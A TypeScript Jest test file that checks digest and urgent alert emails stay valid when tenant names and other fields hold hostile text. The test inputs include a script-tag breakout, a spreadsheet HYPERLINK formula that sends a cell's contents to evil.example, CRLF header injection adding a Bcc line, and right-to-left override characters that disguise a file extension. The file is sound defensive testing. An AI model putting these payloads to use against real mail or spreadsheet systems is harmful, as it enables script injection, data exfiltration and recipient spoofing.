import { describe, expect, test } from '@jest/globals';
import { renderDigest } from '../../../shared/render/digest/mail';
import { renderUrgent } from '../../../shared/render/urgent/mail';
import { anUrgentMail } from '../builders';
import { count, unbalanced, visibleText } from '../markup';
import { problemsOfHtml } from '../validHtml';
import { fullDigest } from './fullDigest';

const HOSTILE: readonly (readonly [string, string])[] = [
  ['a script', '</td><script>alert(1)</script>'],
  ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
  ['quotes', `"'\`“ onclick="x" '`],
  ['line breaks', 'Anna\r\nBcc: all@contoso.example\r\n\r\n.\r\n\u2028Subject: x\u0085\u0000'],
  ['marks that turn text around', '\u202Eexe.\u202D\u2066\u2067\u2068\u200F\u061Cgnp'],
  ['10,000 characters', 'x'.repeat(10_000)],
  ['10,000 characters of which HTML makes six', '"'.repeat(10_000)],
  ['letters from right to left', 'שלום'],
];

/** A digest and urgent mails in which every text of the tenant is this one. */
function mailsOf(text: string) {
  const named = { userPrincipalName: `1${text}`, userDisplayName: text, tenantName: text };
  return [
    renderDigest(fullDigest(5, text)),
    renderUrgent(anUrgentMail({ ...named, userId: text, app: text, ipAddress: text, appNames: {} })),
    renderUrgent(anUrgentMail({ ...named, kind: 'passwordAlone', outcome: 'withoutMfa', times: 2 })),
  ];
}

const PLAIN = mailsOf('Anna');
/** As for other mails; and the validator counts `&quot;` in a title as six characters. */
const RULES = ['no-inline-style', 'no-deprecated-attr', 'prefer-tbody', 'long-title'];

describe.each(HOSTILE)('every text of the tenant is hostile: %s', (_case, text) => {
  const mails = mailsOf(text);

  test('the subject, which is the only header of ours, stays as it is', () => {
    expect(mails.map(({ subject }) => subject)).toEqual(PLAIN.map(({ subject }) => subject));
    for (const { subject } of mails) expect(subject).toMatch(/^[\x20-\x7E]+$/);
  });

  test('the HTML part has the same elements, and is valid', async () => {
    for (const [index, { html }] of mails.entries()) {
      expect(unbalanced(html)).toEqual([]);
      expect(await problemsOfHtml(html, RULES)).toEqual([]);
      expect(html).not.toMatch(/<script|<a [^>]*evil|onclick="/);
      expect(Buffer.byteLength(html)).toBeLessThan(80_000);
      // Less room may be left for names that HTML writes with six characters each.
      if (index > 0) expect(count(html, /<[a-z]/g)).toBe(count(PLAIN[index]?.html ?? '', /<[a-z]/g));
    }
  });

  test('a line break in it is a space in the text part', () => {
    const spaced = mailsOf(text.replace(/[\r\n\u2028\u0085]+/gu, ' '));
    expect(mails).toEqual(spaced);
  });

  test('nothing in the text part makes a link or is hidden', () => {
    for (const { text: part } of mails) {
      expect(part).not.toMatch(/[^\P{Cc}\n]|[\u2028\u202A-\u202E\u2066\u2067\u200E\u200F\u061C]/u);
      expect(part).not.toMatch(/https:\/\/evil|evil\.example/);
      expect(part.length).toBeLessThan(20_000);
    }
  });
});

const RIGHT_TO_LEFT = '\\p{Script=Hebrew}\\p{Script=Arabic}';

describe.each([
  ['Hebrew', 'שלום'],
  ['Arabic with digits', 'سارة 7'],
])('a name in %s', (_script, name) => {
  const lines = mailsOf(name).flatMap(({ text, html }) => [text, visibleText(html)].join('\n').split('\n'));
  // Isolated text does not affect the rest of its line. An isolate ends at the end of the line.
  const rest = lines.map((line) => line.replace(/\u2068[^\u2069]*(\u2069|$)/gu, '⬚').replace(/\u2069/gu, ''));

  test('is in the mail', () => {
    expect(lines.filter((line) => line.includes(name)).length).toBeGreaterThan(20);
  });

  test('never begins a line in which other words follow, so that it does not turn the line around', () => {
    const first = new RegExp(`^[^\\p{L}]*[${RIGHT_TO_LEFT}].*\\p{Script=Latin}`, 'u');
    expect(rest.filter((line) => first.test(line))).toEqual([]);
  });

  test('never stands beside another, or a number, with signs alone between them, so that they do not change places', () => {
    const beside = new RegExp(
      `[${RIGHT_TO_LEFT}][^\\p{L}⬚]*[^\\p{L}⬚\\s.”][^\\p{L}⬚]*[${RIGHT_TO_LEFT}\\p{N}]`,
      'u',
    );
    expect(rest.filter((line) => beside.test(line))).toEqual([]);
  });
});
